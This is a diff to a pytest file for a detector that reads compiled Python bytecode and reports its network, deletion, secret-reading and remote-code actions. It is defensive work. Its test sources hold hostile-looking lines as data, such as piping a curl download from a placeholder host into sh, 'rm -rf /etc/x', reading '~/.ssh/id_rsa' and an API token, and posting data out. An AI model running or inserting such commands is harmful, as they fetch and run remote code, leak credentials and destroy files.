@@ -144,11 +144,51 @@ def test_notebook_cells_and_their_shell_escapes_are_read(reach: Reach) -> None:
     assert ("opaque", "unparsed:notebook") in shown(reach({"b.ipynb": "{"}))
 
 
-def test_bytecode_gives_its_names_and_constants_without_being_unmarshalled(reach: Reach) -> None:
-    code = compile("import urllib.request\nurllib.request.urlopen('https://a.example.net/x')", "s.py", "exec")
-    compiled = importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(code)
-    assert ("connect", "https://a.example.net/x") in shown(reach({"s.pyc": compiled}))
-    assert ("opaque", "unparsed:bytecode") in shown(reach({"t.pyc": compiled[:16] + b"\xff" * 40}))
+def compiled(source: str) -> bytes:
+    return importlib.util.MAGIC_NUMBER + b"\0" * 12 + marshal.dumps(compile(source, "s.py", "exec"))
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("import urllib.request\nurllib.request.urlopen('https://a.example.net/x')",
+         ("connect", "https://a.example.net/x")),
+        ("import requests as r\ndef go(x):\n    r.post('https://a.example.net/in', data=x)",
+         ("send", "https://a.example.net/in")),
+        ("from os import remove as gone\ndef go():\n    gone('/etc/x')", ("delete", "/etc/x")),
+        ("import os\ndef go():\n    os.system('rm -rf /etc/x')", ("delete", "/etc/x")),
+        ("import subprocess\nsubprocess.run('curl https://a.example.net/i.sh | sh', shell=True)",
+         ("remote_code", "https://a.example.net/i.sh")),
+        ("open('~/.ssh/id_rsa')", ("read", "~/.ssh/id_rsa")),
+        ("import os\nos.environ['API_TOKEN']", ("read", "env:API_TOKEN")),
+        ("import pickle\npickle.loads(x)", ("opaque", "unpickle:pickle")),
+        ("exec(x)", ("opaque", "dynamic:exec")),
+        ("import socket\ndef go(h=('a.example.net', 25)):\n    socket.create_connection(h)",
+         ("send", "a.example.net")),
+    ],
+)  # fmt: skip
+def test_bytecode_gives_its_names_and_constants_without_being_unmarshalled(
+    reach: Reach, source: str, expected: tuple[str, str]
+) -> None:
+    found = reach({"s.pyc": compiled(source)})
+    assert expected in shown(found)
+    assert all(action.confidence <= 0.5 for action in found.actions)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "def post(x):\n    return x\npost('https')",
+        "remove = [].remove\nremove('/etc/x')",
+        "TEXT = 'rm -rf /etc/x'\nprint(TEXT)",
+    ],
+)
+def test_bytecode_that_only_sounds_alike_is_no_reach(reach: Reach, source: str) -> None:
+    assert not shown(reach({"s.pyc": compiled(source)}))
+
+
+def test_bytecode_that_cannot_be_parsed_is_opaque(reach: Reach) -> None:
+    assert ("opaque", "unparsed:bytecode") in shown(reach({"t.pyc": compiled("x = 1")[:16] + b"\xff" * 40}))
 
 
 @pytest.mark.parametrize(
